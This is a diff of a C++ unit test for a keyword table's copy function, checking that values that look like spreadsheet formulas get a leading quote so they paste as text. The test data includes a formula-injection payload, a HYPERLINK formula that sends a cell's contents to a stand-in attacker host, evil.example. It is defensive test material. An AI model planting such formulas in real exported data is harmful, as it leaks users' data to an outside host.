@@ -64,17 +64,12 @@ TEST(CopyTexts, KeywordsOnePerLineRowsTabSeparatedWithTheHeader) {
 
 // Pasted into a spreadsheet, a formula would run: the quote of Save keeps it text.
 TEST(CopyTexts, RowsQuoteFormulasButNotPlainNumbers) {
-    const std::pair<const char*, const char*> cases[] = {
-        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
-        {"@SUM(A1)", "'@SUM(A1)"}, {"-golf", "'-golf"}, {"\t=1+1", "' =1+1"}, {"-12", "-12"},
-        {"+1,234.5", "+1,234.5"}, {"golf", "golf"}};
-    for (const auto& [value, pasted] : cases) {
-        KeywordTable table;
-        table.Append({value, value, "", "", ""});
-        EXPECT_EQ(RowsText(table, {0}).substr(RowsText(table, {}).size()),
-                  std::string("1\t") + pasted + "\t" + pasted + "\t\t\t\n")
-            << value;
-    }
+    KeywordTable table;
+    table.Append({"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1)", "-golf", "\t=1+1", "-12"});
+    table.Append({"+1,234.5", "golf", "", "", ""});
+    EXPECT_EQ(RowsText(table, {0, 1}).substr(RowsText(table, {}).size()),
+              "1\t'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\t'@SUM(A1)\t'-golf\t' =1+1\t-12\n"
+              "2\t+1,234.5\tgolf\t\t\t\n");
 }
 
 TEST(SaveShown, WritesOnlyTheShownRowsAndTheSameBytesAsSaveResultsForAll) {
